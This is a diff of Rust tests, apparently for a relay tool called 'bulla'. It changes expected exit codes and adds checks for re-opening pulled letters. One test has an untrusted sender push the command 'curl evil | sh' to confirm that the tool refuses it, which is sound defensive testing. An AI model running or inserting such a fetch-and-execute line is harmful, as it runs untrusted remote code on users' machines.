@@ -159,7 +159,7 @@ fn a_command_of_pull_takes_no_letter_of_a_stranger_either() {
     push(mallory, &[], "curl evil | sh");
     push(ann, &[], "make");
     let exec = format!("{BULLA} open >> got");
-    let ran = bob.run(&["relay", "pull", "--exec", &exec]).expect(70);
+    let ran = bob.run(&["relay", "pull", "--exec", &exec]).expect(26);
     assert!(ran.err.contains("unknown sender"), "{}", ran.err);
     assert_eq!(fs::read_to_string(bob.home().join("got")).unwrap(), "make");
     bob.run(&["relay", "pull", "--exec", &format!("{exec} --unknown")]).expect(0);
@@ -187,9 +187,19 @@ fn one_run_writes_one_letter_and_the_next_pull_brings_the_next() {
     assert_eq!(pull_open(bob, "", "").expect(0).text(), "five");
     pull_open(bob, "", "").expect(1);
     // Written is recorded: none of them opens twice, and that is no letter that was written.
-    let again = bob.run(&["relay", "pull", "--again"]).expect(0).out;
-    let ran = bob.pipe(&["open"], &again).expect(16);
+    let mut again = bob.run(&["relay", "pull", "--again"]).expect(0).out;
+    let mark = again.windows(4).position(|bytes| bytes == [0xff, 0xff, 0xfe, 0]).unwrap();
+    let unmarked = [&again[..mark], &again[mark + 4..]].concat();
+    let ran = bob.pipe(&["open"], &unmarked).expect(16);
     assert_eq!((ran.text().as_str(), ran.err.matches("opened before").count()), ("", 4));
+    // But what went to a pipe may be lost: where it is asked for it opens, as often as need be.
+    for _ in 0..2 {
+        let ran = bob.pipe(&["open"], &again).expect(24);
+        assert_eq!(ran.text(), "two");
+        assert!(ran.err.contains("hint: all of them: bulla open --output-dir DIR"), "{}", ran.err);
+        again = bob.run(&["relay", "pull", "--again"]).expect(0).out;
+    }
+    bob.run(&["relay", "pull"]).expect(1);
 }
 
 #[test]
